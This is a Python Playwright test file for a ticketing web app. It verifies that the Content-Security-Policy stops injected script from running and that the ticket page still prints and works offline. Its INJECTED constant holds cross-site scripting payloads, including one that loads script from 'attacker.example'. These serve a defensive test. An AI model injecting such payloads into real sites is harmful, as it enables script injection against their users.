"""The Content-Security-Policy in real Chromium: script that got into a page anyway does not run, and says so."""

from __future__ import annotations

from pathlib import Path

import httpx
import pytest
from playwright.async_api import expect

from tests.support import csp
from tests.support.orders import get_order, pay_with_test_page, place_order

pytestmark = pytest.mark.browser

INJECTED = (
    '<script>window.injected = "inline script";</script>'
    '<img src="/static/none.png" onerror="window.injected = \'event handler\'">'
    '<a id="injected-link" href="javascript:void(window.injected = \'javascript url\')">x</a>'
    '<script src="https://attacker.example/evil.js"></script>'
)


async def test_script_injected_into_a_page_is_refused(browser, demo_server: str, artifacts_dir: Path) -> None:  # type: ignore[no-untyped-def]
    """The page is the real one, with its real headers; only its HTML gains what an XSS bug would let in."""
    context = await browser.new_context()
    page = await context.new_page()

    async def inject(route, request) -> None:  # type: ignore[no-untyped-def]
        response = await route.fetch()
        html = (await response.text()).replace("</main>", INJECTED + "</main>")
        await route.fulfill(response=response, body=html)

    await page.route("**/events/choose-love-night", inject)
    await page.goto(demo_server + "/events/choose-love-night")
    await page.click("#injected-link")
    await page.wait_for_timeout(300)
    assert await page.evaluate("window.injected === undefined")
    # The page's own script still runs: static/js/buy.js shows the running total as tickets are chosen.
    await page.get_by_label("How many?").first.select_option("2")
    await expect(page.locator("#live-total")).to_be_visible()  # money.js, loaded by buy.js, is allowed too
    await expect(page.locator("#live-total")).to_contain_text("£")
    violations = csp.take()
    assert any("inline" in v or "Refused to execute inline script" in v for v in violations), violations
    assert any("attacker.example" in v for v in violations), violations
    assert any("event handler" in v or "script-src-attr" in v for v in violations), violations
    await context.close()


async def test_the_ticket_page_prints_and_works_offline_without_inline_script(browser, demo_server: str) -> None:  # type: ignore[no-untyped-def]
    """Its Print button and service worker come from static/js/ticket.js now that inline script is refused."""
    async with httpx.AsyncClient(base_url=demo_server, timeout=30) as http:
        created = (await place_order(http, "august-supper-club", quantity=1, buyer={"name": "Amal Haddad", "email": "amal@example.org"})).json()
        assert (await pay_with_test_page(http, created)).status_code == 303
        [ticket] = (await get_order(http, created))["tickets"]
    context = await browser.new_context()
    await context.add_init_script("window.print = () => { window.printed = (window.printed || 0) + 1; };")
    page = await context.new_page()
    await page.goto(demo_server + ticket["url"])
    await page.get_by_role("button", name="Print").click()
    assert await page.evaluate("window.printed") == 1
    scope = await page.evaluate("navigator.serviceWorker.ready.then((registration) => registration.scope)")
    assert scope == demo_server + "/"
    await context.close()
